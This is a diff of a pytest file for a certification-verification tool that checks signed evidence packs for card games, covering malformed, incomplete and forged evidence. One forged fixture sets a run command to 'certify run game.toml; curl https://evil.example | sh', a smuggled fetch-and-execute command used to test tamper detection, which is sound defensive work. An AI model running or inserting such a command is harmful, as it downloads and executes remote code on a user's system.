@@ -18,6 +18,9 @@ from certify.certification.profile import Profile
 from certify.clauses.jurisdiction import Regime
 from certify.clauses.results import ExactResults
 from certify.cli.main import run
+from certify.errors import TrustError
+from certify.evidence import evidence_of, plain, problems_of
+from certify.evidence.document import ExactPart
 from certify.issue import rerun
 from certify.issue.rerun import differences
 from certify.model.game import Game
@@ -70,7 +73,7 @@ def evidence(honest: dict[str, bytes]) -> dict[str, Any]:
 @pytest.fixture(scope="module", autouse=True)
 def _computed_once() -> Iterator[None]:
     """What follows from a submission alone is computed once for all packs about it."""
-    known: dict[str, dict[str, Any]] = {}
+    known: dict[str, ExactPart] = {}
     computed: dict[str, ExactResults] = {}
     compute, results = rerun.exact_evidence, rerun.exact_results
 
@@ -79,7 +82,7 @@ def _computed_once() -> Iterator[None]:
             computed[game.sha256] = results(game, regime)
         return computed[game.sha256]
 
-    def once(exact: ExactResults, *, sensitivity: bool) -> dict[str, Any]:
+    def once(exact: ExactResults, *, sensitivity: bool) -> ExactPart:
         digest = exact.game.sha256
         if digest not in known:
             known[digest] = compute(exact, sensitivity=sensitivity)
@@ -140,10 +143,10 @@ def milder(evidence: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> Iterato
         game, regime = parse_game(GAME.read_bytes(), GAME.name), regime_of()
         seen = [Observation(o["check"], "", Verdict(o["verdict"]), "", "") for o in forged["observations"]]
         statuses = clause_statuses(regime.catalogues, seen, applicability.applicabilities(game))
-        forged["regime"] = reference.regime_evidence(regime, game)
-        forged["clauses"] = [reference.clause_evidence(status) for status in statuses]
+        forged["regime"] = plain(reference.regime_evidence(regime, game))
+        forged["clauses"] = plain([reference.clause_evidence(status) for status in statuses])
         # In that software everything agrees with itself.
-        assert list(reference.clause_differences(game, forged)) == []
+        assert list(reference.clause_differences(game, evidence_of(forged))) == []
     catalogue.load_catalogue.cache_clear()
     assert forged["regime"]["catalogues"][0]["sha256"] == sha256_hex(exchanged)
     yield forged
@@ -226,22 +229,48 @@ def test_a_bomb_under_a_valid_signature_is_refused_by_computing_again(
     assert "the embedded submission cannot be read" in found["rerun"]
 
 
-LACKING: dict[str, Mapping[str, Any]] = {
+EMPTIED: dict[str, Mapping[str, Any]] = {
     "no strategy of a wager": {"strategy_of": {"main": "always-second-card"}},
-    "rounds that are numbers": {"played_rounds": [1, 2, 3]},
-    "a seed of words": {"run": {"seed": "no seed"}},
     "an analysis of nothing": {"analysis": {}},
-    "catalogues that are a word": {"regime": {"jurisdictions": "gli"}},
-    "an unknown verdict's check": {"observations": [{"verdict": "satisfied", "check": 7 * "x"}]},
 }
 
 
-@pytest.mark.parametrize("change", LACKING.values(), ids=LACKING)
-def test_evidence_that_cannot_be_computed_again_is_refused_and_not_stumbled_over(
+@pytest.mark.parametrize("change", EMPTIED.values(), ids=EMPTIED)
+def test_evidence_that_leaves_something_out_is_found_by_computing_again(
     change: Mapping[str, Any], evidence: dict[str, Any], honest: dict[str, bytes], tmp_path: Path
 ) -> None:
     packed = lay(tmp_path, sealed(honest, {**evidence, **change}, signer()))
     assert list(failures(verify(packed, None, NOW, rerun=differences))) == ["rerun"]
+
+
+MALFORMED: dict[str, tuple[Mapping[str, Any], str]] = {
+    "rounds that are numbers": ({"played_rounds": [1, 2, 3]}, "/played_rounds/0"),
+    "a seed of words": ({"run": {"seed": "no seed"}}, "/run/seed"),
+    "catalogues that are a word": ({"regime": {"jurisdictions": "gli"}}, "/regime/jurisdictions"),
+    "an unknown verdict's check": (
+        {"observations": [{"verdict": "satisfied", "check": 7 * "x"}]},
+        "/observations/0/title",
+    ),
+}
+
+
+@pytest.mark.parametrize(("change", "pointer"), MALFORMED.values(), ids=MALFORMED)
+def test_evidence_of_another_form_is_refused_whoever_signed_it(
+    change: Mapping[str, Any],
+    pointer: str,
+    evidence: dict[str, Any],
+    honest: dict[str, bytes],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    proof = {**evidence, **change}
+    with pytest.raises(TrustError, match=pointer):
+        sealed(honest, proof, signer())
+    assert any(line.startswith("the evidence does not follow") for line in differences(proof))
+    # By a software that does not look at what it seals.
+    monkeypatch.setattr("certify.seal.pack.require_schema", lambda evidence: None)
+    found = failures(verify(lay(tmp_path, sealed(honest, proof, signer())), None, NOW, rerun=differences))
+    assert pointer in found["evidence"]
 
 
 def restated(proof: dict[str, Any]) -> dict[str, Any]:
@@ -251,12 +280,10 @@ def restated(proof: dict[str, Any]) -> dict[str, Any]:
     head |= {
         "classification": "Report of a laboratory accredited to ISO/IEC 17025",
         "number": "CR-20200101-00000001",
-        "received": "2020-01-01T00:00:00Z",
         "revision": 7,
         "tested_to": "2020-01-01T00:00:00Z",
     }
     run["command"] = "certify run game.toml; curl https://evil.example | sh"
-    run["witness"] = "a notary"
     lies["rng"]["security_strength"] = 512
     lies["agreement"]["decks"] = 50_000
     lies["deck_audit"]["replays"] = 20_000
@@ -278,11 +305,9 @@ def test_lies_that_the_seal_does_not_see_are_found_by_computing_again(evidence: 
     for place in (
         "/report/classification",
         "/report/number",
-        "/report/received",
         "/report/revision",
         "/report/tested_to",
         "/run/command",
-        "/run/witness",
         "/rng/security_strength",
         "/agreement/decks",
         "/deck_audit/replays",
@@ -294,6 +319,14 @@ def test_lies_that_the_seal_does_not_see_are_found_by_computing_again(evidence: 
         "/observations/rng.known-answers",
     ):
         assert any(line.startswith(place) for line in found), place
+
+
+def test_a_remark_that_no_run_makes_is_no_evidence(evidence: dict[str, Any]) -> None:
+    remarked = copy.deepcopy(evidence)
+    remarked["report"]["received"] = "2020-01-01T00:00:00Z"
+    remarked["run"]["witness"] = "a notary"
+    assert {problem.pointer for problem in problems_of(remarked)} == {"/report/received", "/run/witness"}
+    assert "/report/received" in differences(remarked)[0]
 
 
 def test_half_of_the_observations_do_not_make_a_run(evidence: dict[str, Any]) -> None:
@@ -361,13 +394,14 @@ def test_a_bill_of_materials_says_what_a_run_writes_and_no_more(
 ) -> None:
     from certify.issue.data import BILL, bill_differences
 
-    assert list(bill_differences(honest[BILL], evidence["tool"])) == []
+    tool = evidence_of(evidence).tool
+    assert list(bill_differences(honest[BILL], tool)) == []
     bill = json.loads(honest[BILL])
     change(bill)
     content = (json.dumps(bill, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()
-    assert list(bill_differences(content, evidence["tool"]))
-    assert list(bill_differences(json.dumps(bill).encode(), evidence["tool"]))
-    assert list(bill_differences(b"[" * 100_000, evidence["tool"]))
+    assert list(bill_differences(content, tool))
+    assert list(bill_differences(json.dumps(bill).encode(), tool))
+    assert list(bill_differences(b"[" * 100_000, tool))
 
 
 def test_a_page_drawn_in_the_revision_of_the_signature_fails_the_rendering(
